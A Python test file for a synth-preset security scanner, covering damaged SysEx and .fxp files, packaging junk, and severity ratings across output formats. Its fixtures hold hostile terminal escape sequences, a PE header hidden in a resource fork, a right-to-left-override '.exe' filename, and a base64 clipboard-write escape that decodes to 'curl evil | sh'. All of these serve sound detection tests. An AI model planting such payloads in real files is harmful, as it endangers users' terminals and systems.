"""scan-security misses no broken file: every error-level format finding validate reports surfaces in
scan-security at medium, and a file that could not be read fails the scan as it fails validate."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hostile import surge_fxp_bytes

from presetctl import api
from presetctl.engine.model import SecuritySeverity, Severity
from presetctl.engine.rules.base import Level
from presetctl.engine.rules.registry import BY_CODE, RULES
from presetctl.engine.rules.selection import RuleSet
from presetctl.engine.security.scope import scan_codes


def dx7_bank(*, checksum_delta: int = 0, high_byte: bool = False, cut: int = 0) -> bytes:
    voices = bytearray((bytes(118) + b"E.PIANO 1 ") * 32)  # every parameter 0: in range
    if high_byte:
        voices[500] = 0x85  # a data byte above 7F (not F0 or F7, which end the message)
    body = b"\xf0\x43\x00\x09\x20\x00" + bytes(voices) + bytes([((-sum(voices)) + checksum_delta) & 0x7F, 0xF7])
    return body[: len(body) - cut] if cut else body


DAMAGED = {
    "bad-checksum.syx": dx7_bank(checksum_delta=5),
    "high-byte.syx": dx7_bank(high_byte=True),
    "truncated.syx": dx7_bank(cut=2000),
    "broken-xml.fxp": surge_fxp_bytes(b'<?xml version="1.0"?><patch revision="21"><meta name="x"/><parameters>'),
    "no-patch.fxp": surge_fxp_bytes(b'<?xml version="1.0"?><notapatch/>'),
}


def test_every_error_level_format_rule_is_rated_medium_in_scan_security() -> None:
    format_errors = {r.code for r in RULES if r.level is Level.FORMAT and r.severity is Severity.ERROR}
    assert {"D001", "D004", "D005", "U007", "U009"} <= format_errors <= set(scan_codes())
    rules = RuleSet(api.Options(rate_security=True, select=tuple(sorted(format_errors))))
    assert {c: rules.security(c) for c in format_errors} == dict.fromkeys(format_errors, SecuritySeverity.MEDIUM)
    assert {r.code for r in RULES if r.level is Level.FORMAT and r.severity is not Severity.ERROR}.isdisjoint(scan_codes())


@pytest.mark.parametrize("name", sorted(DAMAGED))
def test_what_validate_calls_a_broken_format_scan_security_reports_at_medium(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(DAMAGED[name])
    validated = api.validate([name], api.Options(jobs=1), cwd=str(tmp_path))
    broken = {(f.code, f.location.render()) for f in validated.findings
              if f.severity is Severity.ERROR and BY_CODE[f.code].level is Level.FORMAT}
    assert broken, "the damaged file must have an error-level format finding"
    scanned = api.scan_security([name], api.Options(jobs=1), cwd=str(tmp_path))
    rated = {(f.code, f.location.render()): f.security for f in scanned.findings}
    assert {key: rated.get(key) for key in broken} == dict.fromkeys(broken, SecuritySeverity.MEDIUM)


def test_a_broken_bank_is_reported_but_fails_only_at_medium(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "bad-checksum.syx").write_bytes(DAMAGED["bad-checksum.syx"])
    result = cli(["scan-security", str(tmp_path), "-o", "json"])
    assert result.exit_code == 0  # the default --fail-on is high
    assert {(f["code"], f["security_severity"]) for f in json.loads(result.stdout)["findings"]} == {("D001", "medium")}
    assert cli(["scan-security", str(tmp_path), "-q", "--fail-on", "medium"]).exit_code == 1


def test_an_unreadable_file_in_a_folder_fails_scan_security_as_it_fails_validate(  # type: ignore[no-untyped-def]
        cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from presetctl.engine import recovery

    (tmp_path / "pack").mkdir()
    (tmp_path / "pack" / "locked.json").write_text("{}")
    (tmp_path / "pack" / "fine.json").write_text('{"format_version": "1.0", "metadata": {"name": "x"}, "parameters": []}')
    real = recovery.read_bounded

    def read_bounded(path: str, limit: int) -> bytes:
        if path.endswith("locked.json"):
            raise PermissionError(13, "Permission denied")
        return real(path, limit)

    monkeypatch.setattr(recovery, "read_bounded", read_bounded)
    monkeypatch.chdir(tmp_path)
    validated = cli(["validate", "pack", "-j", "1", "-o", "concise", "-q"])
    assert (validated.exit_code, validated.stdout) == (1, "pack/locked.json: F007 [error] file cannot be read: "
                                                          "Permission denied\n")
    scanned = cli(["scan-security", "pack", "-j", "1", "-o", "json"])
    assert scanned.exit_code == 1
    assert [(f["path"], f["code"], f["security_severity"]) for f in json.loads(scanned.stdout)["findings"]] == [
        ("pack/locked.json", "F007", "high")]


# -- a lone control byte is not a terminal escape ----------------------------------------------------------
def _scan_name(tmp_path: Path, name: str) -> list[tuple[str, str | None]]:
    doc = {"format_version": "1.0", "metadata": {"name": name}, "parameters": []}
    (tmp_path / "p.json").write_text(json.dumps(doc))
    found = api.scan_security(["p.json"], api.Options(jobs=1, select=("X06",)), cwd=str(tmp_path)).findings
    return sorted((f.code, f.security.label if f.security else None) for f in found)


@pytest.mark.parametrize("name", ["Roe\x1bBear", "Pad\x1b", "Pad\x1bNice", "Pad\x1b\\", "Pad\x85", "Pad\x1b1"])
def test_a_lone_control_byte_is_low(tmp_path: Path, name: str) -> None:
    assert _scan_name(tmp_path, name) == [("X061", "low")]


@pytest.mark.parametrize("name", [
    "Pad\x1b[2J",  # CSI erase
    "Pad\x1b]52;c;Y3VybA==\x1b\\",  # OSC 52 clipboard write, ST-terminated
    "Pad\x1b]0;title\x1b\\",  # OSC window title
    "Pad\x1bPq#0\x1b\\",  # DCS (sixel)
    "Pad\x1bX\x1b\\", "Pad\x1b^\x1b\\", "Pad\x1b_x\x1b\\",  # SOS, PM, APC
    "Pad\x1b(0lqk", "Pad\x1b)0", "Pad\x1b*B", "Pad\x1b-A",  # character set designations
    "Pad\x1b%@",  # leave UTF-8
    "Pad\x1bn", "Pad\x1b}",  # locking shifts
    "Pad\x1bc", "Pad\x1b7", "Pad\x1b8", "Pad\x1bM", "Pad\x1b#8",  # reset, cursor, reverse index, alignment
    "Pad\x9b2J", "Pad\x9d0;t\x9c", "Pad\x90q\x9c", "Pad\x8d",  # 8-bit CSI, OSC, DCS, RI
])
def test_sequences_that_act_on_a_terminal_are_high(tmp_path: Path, name: str) -> None:
    assert _scan_name(tmp_path, name) == [("X063", "high")]


def test_an_osc_keeps_its_bel_as_an_invisible_character(tmp_path: Path) -> None:
    assert _scan_name(tmp_path, "Pad\x1b]52;c;Y3VybA==\x07") == [("X061", "low"), ("X063", "high")]


def test_a_dx7_voice_name_with_a_lone_esc_does_not_fail_the_scan(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    voices = bytearray((bytes(118) + b"E.PIANO 1 ") * 32)  # every parameter 0: in range
    voices[27 * 128 + 118 : 27 * 128 + 128] = b"Roe\x1bBear  "
    (tmp_path / "5.syx").write_bytes(b"\xf0\x43\x00\x09\x20\x00" + voices + bytes([(-sum(voices)) & 0x7F, 0xF7]))
    result = cli(["scan-security", str(tmp_path), "-o", "json", "--fail-on", "medium"])
    assert result.exit_code == 0
    assert [(f["code"], f["security_severity"], f["voice"]) for f in json.loads(result.stdout)["findings"]] == [
        ("X061", "low", 28)]


# -- packaging junk -----------------------------------------------------------------------------------------
APPLE_DOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02" + bytes(64)


@pytest.fixture
def zipped_on_a_mac(tmp_path: Path) -> Path:
    """A pack as macOS's Archive Utility leaves it: a resource fork in __MACOSX/ for each file, .DS_Store."""
    pack = tmp_path / "pack"
    for rel in ("__MACOSX/pack/._Bank.syx", "__MACOSX/pack/._Lead.fxp", "sub/._Other.syx"):
        (pack / rel).parent.mkdir(parents=True, exist_ok=True)
        (pack / rel).write_bytes(APPLE_DOUBLE)
    (pack / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1" + bytes(32))
    (pack / "Bank.syx").write_bytes(dx7_bank())
    return pack


def test_packaging_junk_is_one_pack_finding_not_an_error_per_file(tmp_path: Path, zipped_on_a_mac: Path) -> None:
    result = api.validate(["pack"], api.Options(jobs=1), cwd=str(tmp_path))
    assert [(f.path, f.code, f.severity, f.message) for f in result.findings] == [
        ("pack/.DS_Store", "F012", Severity.WARNING,
         "4 files of packaging junk (macOS __MACOSX/ and ._* resource forks, .DS_Store, Thumbs.db): pack/.DS_Store, "
         "pack/__MACOSX/pack/._Bank.syx, pack/__MACOSX/pack/._Lead.fxp and 1 more; not presets, so not loaded as "
         "presets")]
    assert [r.path for r in result.findings[0].related] == [
        "pack/__MACOSX/pack/._Bank.syx", "pack/__MACOSX/pack/._Lead.fxp", "pack/sub/._Other.syx"]
    assert {o.path: o.status.value for o in result.files}["pack/__MACOSX/pack/._Bank.syx"] == "unknown"
    scanned = api.scan_security(["pack"], api.Options(jobs=1), cwd=str(tmp_path))
    assert [(f.code, f.security) for f in scanned.findings] == [("F012", SecuritySeverity.LOW)]


def test_junk_is_still_scanned_for_payloads(tmp_path: Path, zipped_on_a_mac: Path) -> None:
    pe = b"MZ" + bytes(0x3A) + (0x80).to_bytes(4, "little") + bytes(0x80 - 0x40) + b"PE\0\0" + bytes(64)
    (zipped_on_a_mac / "__MACOSX" / "pack" / "._Bank.syx").write_bytes(pe)
    scanned = api.scan_security(["pack"], api.Options(jobs=1), cwd=str(tmp_path))
    assert ("pack/__MACOSX/pack/._Bank.syx", "X010") in {(f.path, f.code) for f in scanned.findings}


# -- documentation is not a preset --------------------------------------------------------------------------
README = ("# Glass Pads\n\nBy Mara Lindqvist <mara@example.com>, https://mara.example/shop\n"
          "Install into C:\\Users\\mara\\Documents\\Vital\\Presets.\n"
          '<p align="center"><img src="cover.png" onerror="x"></p>\n')


@pytest.mark.parametrize("name", ["README", "README.md", "LICENSE", "LICENSE-MIT", "licence.txt", "CHANGELOG.md",
                                  "notes.txt", "Install.rst"])
def test_plain_documentation_has_no_privacy_or_html_findings(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text(README)
    assert api.scan_security([name], api.Options(jobs=1), cwd=str(tmp_path)).findings == ()
    assert api.validate([name], api.Options(jobs=1), cwd=str(tmp_path)).findings == ()


def test_documentation_is_still_scanned_for_what_endangers_the_reader(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text(README + "paste this: \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x1b\\ \u202egnp.exe\n")
    found = api.scan_security(["README.md"], api.Options(jobs=1), cwd=str(tmp_path)).findings
    assert sorted(f.code for f in found) == ["X060", "X063"]


def test_the_same_text_in_a_file_of_no_documentation_kind_is_reported(tmp_path: Path) -> None:
    (tmp_path / "info.nfo").write_text(README)
    found = api.scan_security(["info.nfo"], api.Options(jobs=1), cwd=str(tmp_path)).findings
    assert sorted(f.code for f in found) == ["X005", "X006", "X007", "X064"]


# -- one set of severity words ------------------------------------------------------------------------------
@pytest.fixture
def three_ratings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A high (X063), a medium (D001) and a low (X007) finding."""
    pack = tmp_path / "pack"
    pack.mkdir()
    doc = {"format_version": "1.0", "metadata": {"name": "Pad\x1b[2J", "author": "a@example.com"}, "parameters": []}
    (pack / "x.json").write_text(json.dumps(doc))
    (pack / "bank.syx").write_bytes(dx7_bank(checksum_delta=3))
    monkeypatch.chdir(tmp_path)
    return pack


@pytest.mark.parametrize(("word", "same_as", "code"), [
    ("error", "high", 1), ("warning", "medium", 1), ("info", "low", 1), ("critical", "critical", 0)])
def test_fail_on_takes_the_rating_and_the_severity_words(cli, three_ratings: Path, word: str, same_as: str,  # type: ignore[no-untyped-def]
                                                         code: int) -> None:
    assert cli(["scan-security", "pack", "-q", "--fail-on", word]).exit_code == code
    assert cli(["scan-security", "pack", "-q", "--fail-on", same_as]).exit_code == code


def test_without_the_high_finding_error_and_high_pass_and_warning_fails(cli, three_ratings: Path) -> None:  # type: ignore[no-untyped-def]
    (three_ratings / "x.json").write_text('{"format_version": "1.0", "metadata": {"name": "Pad"}, "parameters": []}')
    assert [cli(["scan-security", "pack", "-q", "--fail-on", w]).exit_code for w in ("error", "high", "warning")] == [0, 0, 1]


def test_every_output_format_shows_the_rating(cli, three_ratings: Path) -> None:  # type: ignore[no-untyped-def]
    def out(fmt: str, *extra: str) -> str:
        result = cli(["scan-security", "pack", "-o", fmt, "--color", "never", *extra])
        assert result.exit_code == 1, result.output
        return str(result.stdout)

    concise = out("concise").splitlines()
    assert [re.match(r"(\S+): (\w+) \[(\w+)\] ", line).groups() for line in concise[:3]] == [  # type: ignore[union-attr]
        ("pack/bank.syx", "D001", "medium"), ("pack/x.json:1:40", "X063", "high"), ("pack/x.json:1:64", "X007", "low")]
    assert concise[3:] == ["2 files, 3 findings (0 critical, 1 high, 1 medium, 1 low)"]
    full = out("full")
    assert "D001 medium " in full and "X063 high " in full and "X007 low " in full and "│ medium      │     1 │" in full
    doc = json.loads(out("json"))
    assert [(f["code"], f["security_severity"]) for f in doc["findings"]] == [("D001", "medium"), ("X063", "high"),
                                                                           ("X007", "low")]
    assert doc["summary"]["by_security_severity"] == {"critical": 0, "high": 1, "medium": 1, "low": 1}
    assert (doc["run"]["fail_on"], doc["run"]["exit_code"]) == ("high", 1)
    lines = [json.loads(line) for line in out("json-lines").splitlines()]
    assert [f["security_severity"] for f in lines] == ["medium", "high", "low"]
    sarif = json.loads(out("sarif"))["runs"][0]["results"]
    assert [r["properties"]["securityRating"] for r in sarif] == ["medium", "high", "low"]
    junit = out("junit")
    assert '<failure message="1 finding at or above high" type="X063">1:40 X063 high ' in junit
    assert "pack/bank.syx: D001 medium bank 1" in junit and '<property name="fail-threshold" value="high" />' in junit
    github = out("github").splitlines()
    assert [line.split(" ", 1)[0] for line in github] == ["::warning", "::error", "::notice"]
    assert ["title=D001 (medium)" in github[0], "title=X063 (high)" in github[1], "title=X007 (low)" in github[2]] == \
        [True, True, True]
    gitlab = json.loads(out("gitlab"))
    assert [i["severity"] for i in gitlab] == ["major", "critical", "minor"]
